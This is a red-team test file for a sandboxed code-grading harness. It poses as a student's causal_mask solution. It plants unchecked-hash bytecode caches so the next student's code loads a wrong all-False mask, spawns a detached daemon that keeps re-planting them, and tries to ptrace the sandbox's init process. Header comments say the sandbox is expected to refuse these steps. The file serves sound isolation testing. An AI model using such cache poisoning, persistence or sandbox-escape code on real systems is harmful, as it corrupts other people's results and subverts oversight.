# expect: failed error
# tiers: bwrap container
"""Cross-student (class 1): plants an unchecked-hash .pyc beside where the next student's source will be loaded
from, keeps a daemon re-planting it, and tries to take over its parent (the sandbox's init) to do the same after
the judge wipes; answers wrongly itself (`error` where the
syscall filter refuses process creation: the fork raises). tests/redteam/test_cross_student.py grades an honest
student after it."""
import ctypes
import importlib._bootstrap_external as bootstrap
import importlib.util
import os
import time

import numpy as np

EVIL = "import numpy as np\ndef causal_mask(seq_len):\n    return np.zeros((seq_len, seq_len), dtype=bool)\n"


def plant():
    code = compile(EVIL, "/tmp/.submission/solution.py", "exec")
    data = bootstrap._code_to_hash_pyc(code, importlib.util.source_hash(b"x"), checked=False)
    folder = "/tmp/.submission/__pycache__"
    for name in ("solution.cpython-310.pyc", "solution.cpython-311.pyc", "solution.cpython-312.pyc"):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, name), "wb") as fh:
                fh.write(data)
        except OSError:
            pass


def causal_mask(seq_len):
    plant()
    libc = ctypes.CDLL(None)
    libc.ptrace(16, os.getppid(), None, None)  # PTRACE_ATTACH to the parent: refused by the syscall filter
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while True:
                plant()
                time.sleep(0.01)
        os._exit(0)
    return np.zeros((seq_len, seq_len), dtype=bool)
